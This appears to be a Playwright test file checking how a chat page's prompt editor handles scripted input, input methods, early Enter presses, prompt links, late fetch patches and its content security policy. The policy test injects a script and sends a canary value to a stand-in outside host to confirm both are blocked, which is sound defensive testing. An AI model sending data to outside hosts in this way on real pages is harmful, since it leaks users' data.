import assert from 'node:assert/strict';
import { expect } from '@playwright/test';
import * as drive from '../drive.ts';
import { conversationPath, seen, word } from './step.ts';
import type { Step } from './step.ts';

const scriptsInsertText: Step = {
  name: 'a script can insert text as typing does, and undo takes it back',
  run: async (page) => {
    await drive.openChat(page);
    /* eslint-disable @typescript-eslint/no-deprecated -- it is the way in which extensions write into this editor */
    const inserted = await page.evaluate(() => {
      document.querySelector<HTMLElement>('#prompt-textarea')?.focus();
      return document.execCommand('insertText', false, 'one\ntwo  three');
    });
    assert.equal(inserted, true);
    assert.equal(await drive.composerText(page), 'one\ntwo  three');
    await page.evaluate(() => {
      document.execCommand('selectAll');
      document.execCommand('insertText', false, 'other text');
    });
    /* eslint-enable @typescript-eslint/no-deprecated */
    assert.equal(await drive.composerText(page), 'other text');
    await expect(page.locator('#prompt-textarea > *')).toHaveCount(1);
    await page.keyboard.press('ControlOrMeta+Z');
    assert.equal(await drive.composerText(page), 'one\ntwo  three');
    await drive.clearPrompt(page);
    await expect(page.locator('#prompt-textarea p.placeholder > br.ProseMirror-trailingBreak')).toHaveCount(1);
  },
};

const inputMethod: Step = {
  name: 'keys of an input method are let through, and what it composed is sent',
  run: async (page, standin) => {
    await drive.openChat(page);
    await drive.composer(page).click();
    const session = await page.context().newCDPSession(page);
    await session.send('Input.imeSetComposition', { text: 'にほん', selectionStart: 3, selectionEnd: 3 });
    const enter = { key: 'Enter', code: 'Enter', windowsVirtualKeyCode: 229 };
    await session.send('Input.dispatchKeyEvent', { type: 'rawKeyDown', ...enter });
    await session.send('Input.dispatchKeyEvent', { type: 'keyUp', ...enter });
    await session.send('Input.insertText', { text: '日本' });
    assert.equal(await drive.composerText(page), '日本');
    assert.equal(
      standin.ledger.to(conversationPath).some(({ body }) => body.includes('にほん')),
      false,
    );
    await drive.pressEnter(page);
    await drive.expectAnswer(page, 'You said: 日本');
    await session.detach();
  },
};

const holeBeforeHydration: Step = {
  name: 'before the editor is there, Enter puts the prompt into the address',
  run: async (page, standin) => {
    standin.options.hydrationDelayMs = 4000;
    await page.goto('https://chatgpt.com/');
    await page.locator('textarea[name="prompt-textarea"]').fill(word('early'));
    await page.keyboard.press('Enter');
    await seen(standin, word('early'), /^https:\/\/chatgpt\.com\/\?prompt-textarea=/);
    standin.options.hydrationDelayMs = 300;
  },
};

const linkedPrompt: Step = {
  name: 'a linked prompt fills the composer and leaves the address',
  run: async (page, standin) => {
    await drive.openChat(page, `/?q=${word('link')}`);
    await expect(page).toHaveURL('https://chatgpt.com/');
    assert.equal(await drive.composerText(page), word('link'));
    await seen(standin, word('link'), /\?q=/);
  },
};

const lateAndForeignPatches: Step = {
  name: 'a patch of fetch after the bundle has loaded is never called',
  run: async (page) => {
    await drive.openChat(page);
    await page.evaluate(() => (window.fetch = () => Promise.reject(new Error('patched'))));
    await drive.typePrompt(page, 'Early capture');
    await drive.pressEnter(page);
    await drive.expectAnswer(page, 'You said: Early capture');
  },
};

const contentPolicy: Step = {
  name: 'the content security policy holds on the probe page',
  run: async (page, standin) => {
    await page.goto('https://chatgpt.com/__probe');
    const result = await page.evaluate(async (canary) => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
      const foreign = await fetch(`https://sink.example.test/?c=${canary}`).then(
        () => 'sent',
        () => 'refused',
      );
      const own = await fetch('/backend-api/memories', { method: 'POST', body: canary }).then(({ status }) => status);
      const source = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      const worker = await new Promise((done) => (new Worker(source).onmessage = () => done('started')));
      return { injected: 'injected' in window, foreign, own, worker };
    }, word('probe'));
    assert.deepEqual(result, { injected: false, foreign: 'refused', own: 200, worker: 'started' });
    assert.deepEqual(
      standin.ledger.find(word('probe')).map(({ path }) => path),
      ['/backend-api/memories'],
    );
  },
};

/** How the page behaves towards scripts, input methods, early keys and links. */
export const editorSteps: readonly Step[] = [
  scriptsInsertText,
  inputMethod,
  holeBeforeHydration,
  linkedPrompt,
  lateAndForeignPatches,
  contentPolicy,
];
